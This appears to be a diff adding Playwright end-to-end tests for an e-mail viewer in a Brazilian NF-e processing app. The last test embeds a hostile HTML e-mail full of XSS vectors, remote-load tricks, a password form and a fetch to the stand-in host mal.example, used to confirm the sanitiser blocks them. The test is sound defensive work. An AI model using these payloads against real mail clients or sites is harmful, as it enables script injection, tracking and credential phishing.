@@ -1,0 +1,107 @@
+import { expect, test } from "@playwright/test";
+import { playCenario, putEmail, signIn, waitEmail, waitNota } from "./apoio.ts";
+
+test("an e-mail shows every part with its fate, packages as trees, and leads to its notas", async ({
+  page,
+}) => {
+  const token = await signIn(page);
+  const [chave = ""] = await playCenario(page, "zip-com-tres-notas");
+  const { numeroNota } = await waitNota(page, { token, chave });
+  await page.goto(`/emails?texto=${numeroNota}&data=tudo`);
+  const linha = page.locator("[data-linha]").filter({ hasText: /NF-e.*NF-e.*NF-e/ });
+  await expect(page.getByRole("heading", { name: /Hoje/ })).toBeVisible();
+  await linha.getByRole("link").click();
+
+  await expect(page).toHaveURL(/\/email\//);
+  const partes = page.getByRole("region", { name: "Partes e destino" });
+  await expect(partes).toContainText("3 documentos extraídos");
+  await expect(partes).toContainText("Guardado, aberto ao lado");
+  await expect(partes).toContainText("Aberto, 3 arquivos");
+  await expect(partes).toContainText("Confirmada pela SEFAZ");
+  const [original] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("link", { name: "E-mail original" }).first().click(),
+  ]);
+  expect(original.suggestedFilename()).toMatch(/\.eml$/);
+  const [part] = await Promise.all([
+    page.waitForEvent("download"),
+    partes.getByRole("link", { name: /^Baixar .*\.zip$/ }).click(),
+  ]);
+  expect(part.suggestedFilename()).toMatch(/\.zip$/);
+
+  await partes
+    .getByRole("link", { name: /^Abrir NF-e/ })
+    .first()
+    .click();
+  await expect(page).toHaveURL(/\/nota\/.*type=E/);
+  await page.getByRole("tab", { name: "E-mail de origem" }).click();
+  await expect(page.getByRole("tabpanel").getByRole("link").first()).toHaveAttribute("href", /\/email\//);
+});
+
+test("an e-mail without DF-e is kept, with a dot and the reason for each part", async ({ page }) => {
+  const token = await signIn(page);
+  await playCenario(page, "email-sem-dfe");
+  await expect
+    .poll(async () => {
+      await page.goto("/emails?anexo=sem-dfe");
+      return page.locator("[data-linha]").filter({ hasText: "Nada extraído" }).count();
+    })
+    .toBeGreaterThan(0);
+  await page.locator("[data-linha]").filter({ hasText: "Novidades" }).first().getByRole("link").click();
+  await expect(page.getByRole("region", { name: "Partes e destino" })).toContainText(
+    "PDF não tem valor fiscal; vale o XML.",
+  );
+  expect(token).not.toBe("");
+});
+
+const ATAQUE = [
+  "From: Atacante <atacante@mal.example>",
+  "To: notas@demo.example",
+  "Subject: Teste de carta hostil",
+  "Message-ID: <hostil-1@mal.example>",
+  "MIME-Version: 1.0",
+  "Content-Type: text/html; charset=utf-8",
+  "",
+  "<html><head><meta http-equiv='refresh' content='0;url=https://mal.example/r'>",
+  "<style>@import 'https://mal.example/a.css'; body{background:url(https://mal.example/b.png)}</style>",
+  "<base href='https://mal.example/'></head><body onload='top.__xss=1'>",
+  "<p>Texto que fica</p><script>top.__xss=1;fetch('https://mal.example/f')</script>",
+  "<img src='https://mal.example/p.gif' onerror='top.__xss=1'><img src='https://mal.example/q.gif'>",
+  "<svg onload='top.__xss=1'></svg><iframe src='https://mal.example/i'></iframe>",
+  "<form action='https://mal.example/s'><input name='senha'><button>Entrar</button></form>",
+  "<a href='javascript:top.__xss=1'>clique</a>",
+  "<div style='position:fixed;inset:0;background:url(https://mal.example/c.png)'>capa</div>",
+  "</body></html>",
+  "",
+].join("\r\n");
+
+test("a hostile letter runs nothing and calls nobody", async ({ page, baseURL }) => {
+  const outside: string[] = [];
+  const dialogs: string[] = [];
+  page.on("request", (request) => {
+    const { protocol, origin } = new URL(request.url());
+    if (/^https?:$/.test(protocol) && origin !== new URL(baseURL ?? "").origin) outside.push(request.url());
+  });
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const token = await signIn(page);
+  await putEmail(page, ATAQUE);
+  const { id } = await waitEmail(page, token, "Teste de carta hostil");
+  await page.goto(`/email/${id}`);
+  const carta = page.frameLocator("iframe[title='Corpo do e-mail']");
+  await expect(carta.getByText("Texto que fica")).toBeVisible();
+  await expect(page.getByText("Imagens remotas bloqueadas (2)")).toBeVisible();
+  await expect(page.locator("iframe")).toHaveAttribute(
+    "sandbox",
+    "allow-popups allow-popups-to-escape-sandbox",
+  );
+  await expect(carta.locator("script, svg, iframe, form, input, style:not(head style), base")).toHaveCount(0);
+  await carta.getByText("clique").click();
+  await page.waitForTimeout(500);
+  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
+  expect(dialogs).toEqual([]);
+  expect(outside).toEqual([]);
+  expect(page.context().pages()).toHaveLength(1);
+});
